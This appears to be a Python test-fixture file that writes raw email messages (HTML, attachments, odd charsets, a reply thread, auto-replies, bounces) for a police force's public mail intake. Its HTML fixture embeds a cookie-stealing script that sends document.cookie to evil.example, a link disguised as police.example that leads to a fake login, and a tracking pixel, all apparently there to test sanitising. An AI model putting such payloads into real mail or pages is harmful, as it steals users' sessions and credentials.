"""Messages as the public (and the machines around them) really send them, written by us as bytes."""

from __future__ import annotations

import base64

DATE = "Tue, 24 Nov 2026 {hour:02d}:15:00 +0000"
PDF_SIZE = 12_345
TRACKER = "http://tracker.example/pixel.gif?who=counter"


def _crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode("ascii")


def html_with_pixel_and_script(sender: str, to: str) -> bytes:
    return _crlf(
        f"""From: Helen Brennan <{sender}>
To: Front counter <{to}>
Subject: Letter to Lowtown station
Date: {DATE.format(hour=8)}
Message-ID: <html-1@public.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

I wrote to Lowtown station in October and nobody answered.

--alt
Content-Type: text/html; charset=utf-8

<html><head><title>ignore me</title><style>p {{color: red}}</style></head>
<body><p>I wrote to <b>Lowtown station</b> in October and nobody answered.</p>
<img src="{TRACKER}" width="1" height="1">
<script>document.location='http://evil.example/'+document.cookie</script>
<p><a href="http://evil.example/login">http://police.example/</a></p></body></html>

--alt--
"""
    )


def with_attachment(sender: str, to: str) -> bytes:
    pdf = base64.encodebytes(b"%PDF-1.4 " + b"x" * (PDF_SIZE - 9)).decode()
    return _crlf(
        f"""From: Gordon Ellis <{sender}>
To: {to}
Subject: Witness statement
Date: {DATE.format(hour=9)}
Message-ID: <attach-1@public.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mix"

--mix
Content-Type: text/plain; charset=us-ascii

My statement about the break-in is attached.

--mix
Content-Type: application/pdf; name="witness-statement.pdf"
Content-Disposition: attachment; filename="witness-statement.pdf"
Content-Transfer-Encoding: base64

{pdf}
--mix--
"""
    )


def latin1(sender: str, to: str) -> bytes:
    head = _crlf(
        f"""From: =?iso-8859-1?q?Ren=E9e_M=FCller?= <{sender}>
To: {to}
Subject: =?iso-8859-1?q?Vandalismus_am_Caf=E9?=
Date: {DATE.format(hour=10)}
Message-ID: <latin-1@public.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

"""
    )
    return head + "Grüße aus dem Café an der Ecke: die Scheibe ist eingeschlagen.\r\n".encode(
        "latin-1"
    )


def unknown_charset(sender: str, to: str) -> bytes:
    head = _crlf(
        f"""From: Sam Okafor <{sender}>
To: {to}
Subject: Odd letters
Date: {DATE.format(hour=11)}
Message-ID: <charset-1@public.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-no-such-charset"
Content-Transfer-Encoding: 8bit

"""
    )
    return head + b"Someone broke the bus shelter \xff\xfe last night.\r\n"


def thread_of_three(public: str, ours: str) -> tuple[bytes, bytes, bytes]:
    """The public writes, we answer (filed in Sent), the public writes back."""
    first = _crlf(
        f"""From: Jo Fielding <{public}>
To: {ours}
Subject: Noise from the park
Date: {DATE.format(hour=12)}
Message-ID: <jo-1@public.example>
Content-Type: text/plain; charset=utf-8

Every night there is loud music in the park after midnight.
"""
    )
    answer = _crlf(
        f"""From: Front counter <{ours}>
To: Jo Fielding <{public}>
Subject: Re: Noise from the park
Date: {DATE.format(hour=13)}
Message-ID: <our-1@force.example>
In-Reply-To: <jo-1@public.example>
References: <jo-1@public.example>
Content-Type: text/plain; charset=utf-8

Thank you, Jo: the neighbourhood team will patrol the park this week.
"""
    )
    again = _crlf(
        f"""From: Jo Fielding <{public}>
To: {ours}
Subject: Re: Noise from the park
Date: {DATE.format(hour=14)}
Message-ID: <jo-2@public.example>
In-Reply-To: <our-1@force.example>
References: <jo-1@public.example> <our-1@force.example>
Content-Type: text/plain; charset=utf-8

Thanks. It was quieter last night. Will they come again on Friday?
"""
    )
    return first, answer, again


def auto_reply(sender: str, to: str) -> bytes:
    return _crlf(
        f"""From: Pat Lowe <{sender}>
To: {to}
Subject: Out of office: Re: Your report
Date: {DATE.format(hour=15)}
Message-ID: <ooo-1@public.example>
Auto-Submitted: auto-replied
Content-Type: text/plain; charset=utf-8

I am away until Monday.
"""
    )


def bounce(to: str) -> bytes:
    return _crlf(
        f"""Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.public.example>
To: {to}
Subject: Undelivered Mail Returned to Sender
Date: {DATE.format(hour=16)}
Message-ID: <bounce-1@mx.public.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="rep"

--rep
Content-Type: text/plain

Your message could not be delivered.

--rep
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.public.example
Final-Recipient: rfc822; nobody@public.example
Action: failed
Status: 5.1.1

--rep--
"""
    )


def plain(sender: str, to: str, message_id: str, subject: str, hour: int = 17) -> bytes:
    return _crlf(
        f"""From: {sender}
To: {to}
Subject: {subject}
Date: {DATE.format(hour=hour)}
Message-ID: {message_id}
Content-Type: text/plain; charset=utf-8

{subject}, in a few words.
"""
    )
